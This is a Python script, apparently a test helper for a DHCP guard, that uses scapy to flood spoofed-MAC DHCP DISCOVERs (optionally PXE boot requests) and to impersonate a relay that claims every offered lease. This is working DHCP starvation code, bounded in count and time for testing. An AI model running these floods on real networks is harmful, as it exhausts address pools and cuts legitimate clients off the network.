#!/usr/bin/python3
"""DHCP attacks for the guard tests, with packets built by scapy. Every run
is bounded in count and time and stops by itself.

  dhcpattack.py discover IFACE COUNT SECONDS [--pxe] [--first N]
      COUNT broadcast DISCOVERs, each from a new MAC (the Ethernet source
      too), spread over at most SECONDS; never a REQUEST. --pxe makes them
      network-boot DISCOVERs (vendor class PXEClient, arch 7, a UUID).
  dhcpattack.py relay SERVER SECONDS SRC:GIADDR... [--port P]
      A host claiming to be a relay: from each SRC (bound to port P, 67 by
      default) DISCOVERs with that GIADDR and a new MAC each, REQUESTs what
      is offered; the pairs are used in turn. Prints {"acks": N, "offers": N}.
"""
import argparse
import json
import select
import socket
import struct
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, sendp

from dhcpload import ip, parse

conf.verb = 0


def mac_of(i, tag=0x5a):
    return bytes([0x02, tag, (i >> 24) & 255, (i >> 16) & 255, (i >> 8) & 255, i & 255])


def fmt(mac):
    return ":".join(f"{b:02x}" for b in mac)


def dhcp(kind, mac, xid, giaddr="0.0.0.0", pxe=False, requested=None, server_id=None):
    opts = [("message-type", kind)]
    if requested:
        opts.append(("requested_addr", requested))
    if server_id:
        opts.append(("server_id", server_id))
    if pxe:
        opts += [("vendor_class_id", b"PXEClient:Arch:00007:UNDI:003016"),
                 (93, b"\x00\x07"), (97, b"\x00" + mac + bytes(10))]
    opts.append("end")
    return BOOTP(op=1, xid=xid, flags=0x8000, giaddr=giaddr,
                 chaddr=mac + bytes(10)) / DHCP(options=opts)


def discover(a):
    frames = []
    for i in range(a.first, a.first + a.count):
        mac = mac_of(i)
        frames.append(Ether(src=fmt(mac), dst="ff:ff:ff:ff:ff:ff") /
                      IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) /
                      dhcp("discover", mac, i, pxe=a.pxe))
    t0 = time.monotonic()
    per = max(1, a.count // 50)
    for k in range(0, len(frames), per):  # 50 slices spread over the time given
        if time.monotonic() - t0 > a.seconds:
            break
        sendp(frames[k:k + per], iface=a.iface)
        time.sleep(max(0.0, t0 + a.seconds * (k + per) / len(frames) - time.monotonic()))


def relay(a):
    pairs = [p.split(":") for p in a.pairs]
    socks = []
    for src, gi in pairs:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((src, a.port))
        s.setblocking(False)
        socks.append((s, gi))
    t0, i, acks, offers = time.monotonic(), 0, set(), 0
    next_send = t0
    while time.monotonic() - t0 < a.seconds:
        if time.monotonic() >= next_send and i < 10000:
            s, gi = socks[i % len(socks)]
            s.sendto(bytes(dhcp("discover", mac_of(i, 0x5b), i, giaddr=gi)), (a.server, 67))
            i += 1
            next_send += 0.02  # 50 new clients a second
        r, _, _ = select.select([s for s, _ in socks], [], [], 0.01)
        for s in r:
            gi = next(g for x, g in socks if x is s)
            p = parse(s.recv(2048))
            if p and p[3] == 2:  # OFFER: take it
                offers += 1
                s.sendto(bytes(dhcp("request", p[2], p[0], giaddr=gi, requested=ip(p[1]),
                                    server_id=ip(p[4]))), (a.server, 67))
            elif p and p[3] == 5:
                acks.add(p[1])
    print(json.dumps({"acks": len(acks), "offers": offers, "sent": i}))


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    d = sub.add_parser("discover")
    d.add_argument("iface")
    d.add_argument("count", type=int)
    d.add_argument("seconds", type=float)
    d.add_argument("--pxe", action="store_true")
    d.add_argument("--first", type=int, default=0)
    r = sub.add_parser("relay")
    r.add_argument("server")
    r.add_argument("seconds", type=float)
    r.add_argument("pairs", nargs="+")
    r.add_argument("--port", type=int, default=67)
    a = ap.parse_args()
    discover(a) if a.cmd == "discover" else relay(a)


if __name__ == "__main__":
    main()
